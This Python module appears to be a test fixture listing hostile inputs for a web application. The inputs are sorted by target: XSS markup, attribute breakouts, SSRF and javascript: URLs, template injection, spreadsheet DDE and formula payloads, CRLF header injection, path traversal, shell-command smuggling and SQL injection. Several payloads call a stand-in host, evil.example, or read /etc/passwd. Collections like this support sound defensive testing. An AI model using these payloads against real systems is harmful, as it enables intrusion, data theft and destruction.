"""Hostile texts of users, files and the gateway, by what they attack.

What a script would call is `zqx()`, what it would add is an element or attribute `zqx`, and what a
template would count is 191 × 191 = 36481.
"""

HTML = (
    "<script>zqx()</script>", "<SCRIPT SRC=//evil.example/zqx.js></SCRIPT>",
    "<scr<script>ipt>zqx()</script>", "</script><script>zqx()</script>",
    "</title><script>zqx()</script>", "</textarea><script>zqx()</script>",
    "</style><script>zqx()</script>", "</option></select><script>zqx()</script>",
    "--><script>zqx()</script>", "]]><script>zqx()</script>",
    "<!--<img src=--><img src=x onerror=zqx()>", "<img src=x onerror=zqx()>",
    "<img/src=x/onerror=zqx()>", "<img src=x:x onerror\n=zqx()>", "<svg onload=zqx()>",
    "<svg/onload=zqx()//", "<svg><script>zqx()</script></svg>",
    "<svg><animate onbegin=zqx() attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=zqx()>", "<body onload=zqx()>",
    "<input autofocus onfocus=zqx()>", "<select autofocus onfocus=zqx()>",
    "<textarea autofocus onfocus=zqx()>", "<video><source onerror=zqx()></video>",
    "<audio src=x onerror=zqx()>", "<details open ontoggle=zqx()>", "<marquee onstart=zqx()>",
    "<iframe src=javascript:zqx()>", "<iframe srcdoc='<script>zqx()</script>'>",
    "<object data=javascript:zqx()>", "<embed src=javascript:zqx()>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<form action=//evil.example><button>zqx",
    "<button formaction=javascript:zqx()>zqx</button>", "<a href=javascript:zqx()>zqx</a>",
    "<a href='java\tscript:zqx()'>zqx</a>", "<isindex action=javascript:zqx()>",
    "<noscript><p title=\"</noscript><img src=x onerror=zqx()>\">",
    "<zqx-element>zqx</zqx-element>", "<template><script>zqx()</script></template>",
    "<portal src=javascript:zqx()>", "<dialog open>zqx</dialog>",
    "<style>@import'//evil.example/a.css';</style>",
    "<p style=background:url(//evil.example/a)>zqx", "<keygen autofocus onfocus=zqx()>",
    "<frameset onload=zqx()>", "<table background=javascript:zqx()>",
    "&lt;script&gt;zqx()&lt;/script&gt;", "&#60;script&#62;zqx()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;", "&#x3C;img src=x onerror=zqx()&#x3E;",
    "%3Cscript%3Ezqx()%3C/script%3E", "\\u003cscript\\u003ezqx()", "＜script＞zqx()＜/script＞",
    "<\u200bscript>zqx()</script>", "<script\u2028>zqx()</script>",
)  # fmt: skip
ATTRIBUTES = (
    '" onmouseover="zqx()', "' onmouseover='zqx()", '"><img src=x onerror=zqx()>',
    "'><svg onload=zqx()>", '" zqx="1', "' zqx='1", "` zqx=`1", '" autofocus onfocus=zqx() x="',
    "' style='position:fixed' zqx='", '"/><zqx-element>', "'/><zqx-element>", "x zqx=1",
    'x" accesskey="x" onclick="zqx()', "\\\" zqx=\\\"1", '" hx-get="/account/" hx-trigger="load',
    "' hx-on:load='zqx()", '" data-bs-toggle="modal', '" id="composer',
    '" formaction="//evil.example', '" srcdoc="<script>zqx()</script>', "&quot; zqx=&quot;1",
    "\u2033 zqx=1",
)  # fmt: skip
ADDRESSES = (
    "javascript:zqx()", "JaVaScRiPt:zqx()", "java\tscript:zqx()", "java\nscript:zqx()",
    " javascript:zqx()", "\x01javascript:zqx()", "javascript://x.example/%0Azqx()",
    "vbscript:zqx()", "feed:javascript:zqx()", "data:text/html,<script>zqx()</script>",
    "data:text/html;base64,PHNjcmlwdD56cXgoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=zqx()>", "view-source:javascript:zqx()", "//evil.example/a",
    "/\\evil.example", "\\\\evil.example\\share", "https:evil.example",
    "https://x.example@evil.example/", "https://evil.example#.png", "http://127.0.0.1/",
    "http://127.1/", "http://0x7f000001/", "http://2130706433/", "http://[::1]/", "http://0/",
    "http://[::ffff:169.254.169.254]/", "http://169.254.169.254/latest/meta-data/",
    "http://localhost:6379/", "http://127.0.0.1.nip.io/", "file:///etc/passwd",
    "gopher://127.0.0.1:25/_HELO", "dict://127.0.0.1:11211/stats", "ftp://127.0.0.1/",
    "ldap://127.0.0.1/", "blob:https://x.example/zqx", "https://xn--80ak6aa92e.com/",
    "https://еxample.com/", "http://x.example:99999/", "http://[", "https://%00.example/",
    "?next=//evil.example",
)  # fmt: skip
SCRIPTS = (
    "'-zqx()-'", '"-zqx()-"', "';zqx();//", '";zqx();//', "\\';zqx();//", "${zqx()}", "`${zqx()}`",
    "*/zqx()/*", "\u2028zqx()//", "</ScRiPt>", "<!--", "-->", "]]>", "\\x3cscript\\x3e",
    "{\"a\":\"</script>\"}", "__proto__", "constructor", "toString", "hasOwnProperty",
    "[object Object]", "null", "undefined", "NaN", "zqx`1`", "expression(zqx())", "};zqx();{",
    "/*", "//", "#", "url(javascript:zqx())", "@import '//evil.example'", "}*{color:red",
)  # fmt: skip
TEMPLATES = (
    "{{ 191|add:36290 }}", "{% now 'Y' %}", "{% debug %}", "{% include 'base.html' %}",
    "{{ request.user.password }}", "{{ settings.SECRET_KEY }}", "{% load admin_urls %}",
    "{% csrf_token %}", "{# zqx #}", "{% comment %}", "{%", "%}", "{{", "}}", "{{ messages }}",
    "{{7*7}}", "${191*191}", "#{191*191}", "<%= 191*191 %>",
    "{{constructor.constructor('zqx()')()}}", "*{191*191}", "@(191*191)", "{name}",
    "{name|{name}}", "{__class__}", "{0.__class__.__init__.__globals__}", "%(name)s", "%s%s%s%n",
    "%x%d", "%%", "{!r}", "{:>99999}", "{|}", "{}", "{{{{name}}}}", "{a|<b>zqx</b>}",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"//evil.example\",\"zqx\")", "=IMPORTXML(\"//evil.example\",\"//a\")",
    "=WEBSERVICE(\"//evil.example\")", "\t=1+1", "\r=1+1", "\n=1+1", "\"=1+1", "'=1+1", ";=1+1",
    ",=1+1", "|=1+1", "a;=1+1;b", "a\n=1+1", "a\",=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=DDE(\"cmd\";\"/C calc\";\"zqx\")", "-2+3+cmd|' /C calc'!A0", "+380501234567", "@olena",
    "=\u200b1+1", "%0A=1+1", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "sep=;", "ID;P\nO;E",
    "=A1&\"\"", "+HYPERLINK(1)", "@@=1",
)  # fmt: skip
LINES = (
    "a\r\nBcc: evil@example.com", "a\nSubject: zqx", "a\rX: zqx",
    "a\r\n\r\n<script>zqx()</script>", "a%0d%0aSet-Cookie: zqx=1", "a\u0085X: zqx",
    "a\u2028X: zqx", "a\u2029X: zqx", "a\x0bX: zqx", "a\x0cX: zqx", "a\x1cX: zqx",
    "\x1b[2J\x1b[31mzqx\x1b[0m", "\x1b]0;zqx\x07", "\x1b]8;;//evil.example\x07zqx\x1b]8;;\x07",
    "\x9b31mzqx", "\x08\x08\x08zqx", "\x07\x07", "2027-01-01 00:00:00 ERROR root zqx",
    "x\n2027-01-01 00:00:00 INFO root signed in", "a\"; filename=\"zqx.exe", "a; HttpOnly",
    "=?utf-8?q?zqx?=", "=?utf-8?b?PHNjcmlwdD4=?=", "zqx <evil@example.com>, x",
    ",evil@example.com", "a\\",
)  # fmt: skip
LETTERS = (
    "\u202ezqx\u202c", "\u2066zqx", "\u2067zqx\u2069", "\u200fzqx", "\u061czqx",
    "gnp.\u202eexe.zqx", "z\u200bq\u200cx", "\u200d", "\ufeffzqx", "\u00adzqx",
    "z\u0336q\u0336x\u0336", "Z" + "\u0351" * 60, "ﷺ" * 20, "𝔃𝓺𝔁", "ＺＱＸ", "ｚｑｘ", "раураl",
    "ı", "İ", "ß", "ﬃ", "K", "Å", "\U000e0001\U000e007a", "👩\u200d👩\u200d👧\u200d👦",
    "🏴\U000e0067\U000e007f", "\U0010ffff", "\u3164", "\u115f", "\u2800", "\u180e",
    "\ufff9zqx\ufffb", "\ufffd", "\u1680", "\xa0", "zqx ", "  zqx",
)  # fmt: skip
PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\zqx",
    "....//....//etc/passwd", "%2e%2e%2fpasswd", "..%252f..%252fpasswd", "a/../../b",
    "~/.ssh/id_rsa", "\\\\?\\C:\\zqx", "CON", "NUL.txt", "aux.csv", ".htaccess", "..", ".",
    "zqx.csv/.", "zqx.csv::$DATA", "zqx.php.csv", "zqx.csv;.exe", "|id", "`id`", "$(id)", ";id",
    "&& id", "-rf", "--help", "*", "?",
)  # fmt: skip
QUERIES = (
    "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE campaigns_campaign; --",
    "1; SELECT pg_sleep(9)", "%", "_", "%%%%", "\\%", "[a-z]%",
    "' UNION SELECT password FROM campaigns_user --", "$1", ":name", "?", "NULL", "\\", "\\\\",
    "''", "'", '"', "`", "0x7a7178", "*)(uid=*", "$$zqx$$", "E'\\\\x27'", "(?i)(a+)+$", "[", "(",
    "^(a|a)*$", "'||(SELECT 1)||'", "a' AND 'a'='a",
)  # fmt: skip
LONG = (
    "A" * 5_000, "<" * 2_000, "&" * 2_000, "{" * 1_000, "{a|" * 300, "𝔃" * 1_000, "a " * 2_000,
    "\u202e" * 500, "<b>" * 500, "=1+1;" * 400, "javascript:" * 200, "../" * 500, "\"'`" * 500,
    "אב " * 500, "0" * 400, "-" * 1_000,
)  # fmt: skip

# NUL, which PostgreSQL stores in no text, and halves of letters, which no encoding has
NOT_STORABLE = ("\0", "zqx\0.csv", "\0<script>", "\ud800", "zqx\udfff", "\udc00\ud800", "a\ud83d")
STORABLE = tuple(
    dict.fromkeys(
        (
            *HTML, *ATTRIBUTES, *ADDRESSES, *SCRIPTS, *TEMPLATES, *FORMULAS, *LINES, *LETTERS,
            *PATHS, *QUERIES, *LONG,
        )
    )
)  # fmt: skip
# much of the above at once, for texts of which a page shows only one
TOGETHER = (
    "'\"><img src=x onerror=zqx()><zqx-a>",
    "\"' zqx=1 </script><script>zqx()</script>",
    "=1+1{{191|add:36290}}{% debug %}\u202e<b>",
    'javascript:zqx()//"><svg onload=zqx()>',
)
